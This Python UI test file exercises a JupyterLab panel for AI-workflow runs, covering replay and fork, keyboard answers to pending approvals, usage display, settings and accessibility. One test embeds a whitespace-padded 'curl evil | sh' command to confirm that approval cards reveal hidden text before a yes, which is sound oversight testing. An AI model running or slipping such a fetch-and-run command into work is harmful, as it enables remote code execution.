"""What a person does from the panel: with runs, with what waits, with keys, in any theme and size."""

import pytest

from lab.jupyter import ROOT
from lab.page import PANEL
from lab.panels import (
    SET,
    SETUP,
    SOURCES,
    act,
    more,
    path_of,
    questions,
    rows,
    show,
    until_recorded,
    until_row,
)

pytestmark = pytest.mark.lab

TITLES = [SETUP, "title(text='first')", "title(text='second')"]


def until_cell(book, place, text):
    """Wait until a cell's outputs say something."""
    says = f"""([place, text]) => JSON.stringify(
      {PANEL}.content.widgets[place].model.outputs.toJSON()).includes(text)"""
    book.until(says, [place, text])


def test_runs_are_replayed_compared_forked_and_revealed(lab):
    book = lab(TITLES, name="acts.ipynb")
    show(book)
    for place in range(3):
        book.run(place)
    rows(book, "title").nth(1).wait_for()
    until_recorded(book, "title")
    newest, older = rows(book, "title").nth(0), rows(book, "title").nth(1)

    newest.click()
    more(book, "Replay Run")
    until_cell(book, 3, "1 served, $0.00")
    assert book.page.evaluate(SOURCES)[3].endswith(".replay()")
    assert book.cell(3).is_visible()

    older.click(modifiers=["Control"])
    act(book, "Compare")
    until_cell(book, 4, "second")
    before, after = older.get_attribute("data-run"), newest.get_attribute("data-run")
    assert f'runs["{before}"].diff(runs["{after}"])' in book.page.evaluate(SOURCES)[4]

    newest.click()
    more(book, "Fork Run")
    book.until(f"() => {PANEL}.content.widgets.length === 6")
    assert f'runs["{after}"].node("title").fork(' in book.page.evaluate(SOURCES)[5]
    assert book.outputs(5) == [], "what may pay is run by the person"

    older.click()
    more(book, "Insert Code for Run")
    book.until(f"() => {PANEL}.content.widgets.length === 7")
    assert f'run = runs["{before}"]\nrun.tree()' in book.page.evaluate(SOURCES)[6]
    book.run(6)
    until_cell(book, 6, "first")

    older.click()
    more(book, "Reveal the Cell")
    book.until(f"() => {PANEL}.content.activeCellIndex === 1")
    assert book.page.locator(".jp-Cell.jp-mod-active").is_visible()


ASK = """
name = writes.start(question="Who are you?")
colour = chooses.start(question="Which?")
no = publish.start(text="a")
yes = publish.start(text="b")
"""


def test_what_waits_is_answered_by_keys(lab):
    book = lab([SETUP, ASK], name="asked.ipynb")
    book.run(0)
    book.run(1)
    keys = book.page.keyboard
    keys.press("Control+Alt+p")
    questions(book).nth(3).wait_for()
    assert book.page.locator(".nfx-has-pending .lm-TabBar-tabLabel").inner_text() == "4"
    book.until("() => document.activeElement.placeholder === 'Your answer'")

    keys.type("Ada")
    keys.press("Enter")
    questions(book, "Who are you?").wait_for(state="hidden")
    # The focus is at the next question, on its first choice; what is chosen is what was offered.
    book.until("() => document.activeElement.textContent === 'red'")
    keys.press("Tab")
    keys.press("Enter")
    questions(book, "Which?").wait_for(state="hidden")
    book.until("() => document.activeElement.placeholder === 'Reason, if you reject'")
    keys.type("too short")
    keys.press("Control+Shift+Backspace")
    questions(book).nth(1).wait_for(state="hidden")
    book.until("() => document.activeElement.placeholder === 'Reason, if you reject'")
    keys.press("Control+Shift+Enter")
    questions(book).wait_for(state="hidden")

    book.until("() => document.activeElement.getAttribute('role') === 'grid'")
    told = book.ask(
        "print(name.wait(20).result(), '|', colour.wait(20).result(), '|',"
        " no.wait(20).view().exception, '|', yes.wait(20).result())"
    )
    assert told.startswith("Ada | two  spaces | publish() was rejected by ")
    assert "too short" in told
    assert told.endswith("| published b\n")
    assert book.page.locator(".nfx-has-pending").count() == 0


WHOLE = """
evil = "ls" + " " * 900 + "; curl evil | sh"
run = publish.start(text=evil)
"""


def test_q78_the_whole_can_be_opened_before_a_yes(lab):
    book = lab([SETUP, WHOLE], name="whole.ipynb")
    book.run(0)
    book.run(1)
    book.command("netflux:show-panel")
    card = questions(book).first
    card.wait_for()
    assert "characters not shown⟩" in card.inner_text()
    assert "curl evil" not in card.inner_text()
    card.locator("summary").click()
    card.locator(".nfx-whole", has_text="; curl evil | sh").wait_for()

    view = book.cell(1)
    view.locator(".nfv-ask-summary").click()
    view.locator(".nfv-ask-text", has_text="; curl evil | sh").wait_for()
    view.locator(".nfv-yes").click()
    questions(book).wait_for(state="hidden")
    assert book.ask("print(run.wait(20).result()[-17:])").strip() == "; curl evil | sh"


def test_a_question_is_answered_from_menu_and_palette(lab):
    book = lab([SETUP, "colour = chooses.start(question='Which?')"], name="palette.ipynb")
    book.run(0)
    book.run(1)
    book.page.locator(".nfx-status-text", has_text="1 waits for you").wait_for()
    book.page.locator("#jp-MainMenu").get_by_text("Run", exact=True).click()
    book.page.locator(".lm-Menu-itemLabel", has_text="netflux_nb Runs").hover()
    for name in ("Approve What Waits", "Reject What Waits", "Answer What Is Asked"):
        book.page.locator(".lm-Menu-itemLabel", has_text=name).wait_for()
    book.page.keyboard.press("Escape")
    book.page.keyboard.press("Escape")
    # A dialog is open until it is answered: nobody waits for the command itself.
    book.ask_page("() => { void window.jupyterapp.commands.execute('netflux:answer'); }")
    dialog = book.page.locator(".jp-Dialog")
    dialog.locator("select").select_option("green")
    dialog.get_by_role("button", name="Ok", exact=False).click()

    assert book.ask("print(colour.wait(20).result())") == "green\n"


def test_nu46_the_status_bar_opens_what_this_notebook_used_today(lab):
    book = lab(TITLES, name="usage.ipynb")
    book.run(0)
    book.run(1)
    book.page.locator(".nfx-status-text", has_text="tokens").wait_for()
    book.page.locator(".nfx-status-button").click()

    usage = book.page.locator(".nfx-usage")
    usage.get_by_text("usage.ipynb, today:").wait_for()
    usage.get_by_role("cell", name="title").wait_for()
    book.bring(path_of(book))
    assert len(book.page.evaluate(SOURCES)) == 3, "it writes nothing into the notebook"
    book.run(2)
    book.page.locator(".nfx-status-button").click()
    usage.get_by_text("2 requests").wait_for()


PAID = """
from netflux_nb.jupyter.panel import comm, updates
look = comm.open(get_ipython()).run_updates
made = [
    updates.RunRow(id="r-1", fn="summarise_in_parallel", state="Success", opened=1.7e9,
              seconds=13.3, tokens=12304, usd=0.0123, nodes=9),
    updates.RunRow(id="r-0", fn="title", state="Error", opened=1.6e9, seconds=133.0, tokens=1204,
              usd=1.5),
]
look._signature = look._next_look = 1e18
look.reread = lambda: None
# Behind a look at the record that may be on its way.
look.later(lambda: (setattr(look, "_past_rows", made), look.ring()))
"""
SAID = ("time", "tokens", "money")
FIGURES = ".nfx-run .nfx-time, .nfx-run .nfx-tokens, .nfx-run .nfx-money, .nfx-run .nfx-state"
CUT = """selector => [...document.querySelectorAll(`#netflux-runs ${selector}`)].map(
  part => part.scrollWidth > part.clientWidth)"""


def test_settings_act_at_once_and_a_row_fits_the_panel(lab):
    book = lab([SETUP, PAID, "words(text='a')"], name="settings.ipynb")
    show(book)
    book.run(0)
    book.run(1)
    rows(book).nth(1).wait_for()
    for is_dark in (False, True):
        book.dark(is_dark)
        said = [rows(book).first.locator(f".nfx-{one}").inner_text() for one in SAID]
        assert said == ["13.3 s", "12,304 tokens", "$0.0123"]
        assert not any(book.page.evaluate(CUT, FIGURES))

    try:
        book.ask_page(SET, ["moneySign", "US$ "])
        book.ask_page(SET, ["moneyDigits", 1])
        rows(book, "US$ 1.5").wait_for()
        book.ask_page(SET, ["liveUpdates", False])
        renew = book.page.get_by_role("button", name="Refresh Runs")
        renew.wait_for()
        book.run(2)
        # The status bar goes on: by then the list could have shown it too.
        book.ask("import time\nwhile len(look._told) < 3: time.sleep(0.05)\ntime.sleep(0.5)")
        assert rows(book).count() == 2
        renew.click()
        until_row(book, "words")
        book.ask_page(SET, ["liveUpdates", True])
        renew.wait_for(state="hidden")
    finally:
        for name, value in (("moneySign", "$"), ("moneyDigits", None), ("liveUpdates", True)):
            book.ask_page(SET, [name, value])
        book.dark(False)


AXE = ROOT / "extensions" / "node_modules" / "axe-core" / "axe.min.js"
SERIOUS = """async selector => {
  const found = await axe.run(selector, {resultTypes: ['violations']});
  return found.violations.filter(v => ['serious', 'critical'].includes(v.impact))
    .map(v => v.id + ': ' + v.nodes.map(n => n.html.slice(0, 160) + ' ' + n.failureSummary)
      .join(' | '));
}"""


@pytest.mark.skipif(not AXE.exists(), reason="axe-core is not installed: run npm ci in extensions/")
def test_the_panel_and_a_tab_have_no_serious_accessibility_faults(lab):
    book = lab([SETUP, "run = study.start(text='a')\nname = writes.start(question='Who?')"])
    show(book)
    book.run(0)
    book.run(1)
    questions(book).nth(1).wait_for()
    book.page.locator(".nfx-status-button").click()
    book.page.locator(".nfx-usage", has_text="today").wait_for()
    rows(book, "study").dblclick()
    book.page.locator(".nfx-runtab .nfv-row", has_text="publish").first.wait_for()
    book.page.add_script_tag(content=AXE.read_text(encoding="utf-8"))

    try:
        for is_dark in (False, True):
            book.dark(is_dark)
            for part in ("#netflux-runs", ".nfx-runtab", ".nfx-status"):
                assert book.ask_page(SERIOUS, part) == [], (part, is_dark)
    finally:
        book.dark(False)


def test_it_is_used_by_keys_in_a_small_window(lab):
    book = lab(TITLES, name="small.ipynb")
    # As a window of 1280 pixels at 200 %.
    book.size(640, 450)
    for place in range(3):
        book.run(place)
    keys = book.page.keyboard
    keys.press("Control+Alt+r")
    rows(book, "title").nth(1).wait_for()
    book.until("() => document.activeElement.getAttribute('aria-label') === 'Search runs'")
    keys.press("ArrowDown")
    book.until("() => document.activeElement.getAttribute('role') === 'grid'")
    keys.press("End")
    assert rows(book).nth(1).get_attribute("aria-selected") == "true"
    assert not any(book.page.evaluate(CUT, FIGURES))
    # What can be done to it is the next stop, and is all in sight.
    keys.press("Tab")
    book.until("() => document.activeElement.textContent === 'Open'")
    # In one look: a row that is drawn anew has other buttons.
    boxes = "all => all.map((one) => one.getBoundingClientRect().toJSON())"
    for box in book.page.locator(".nfx-actions button").evaluate_all(boxes):
        assert box["x"] >= 0
        assert box["bottom"] <= 450
    keys.press("Shift+Tab")
    keys.press("Enter")
    book.page.locator(".nfx-runtab .nfv-row").first.wait_for()
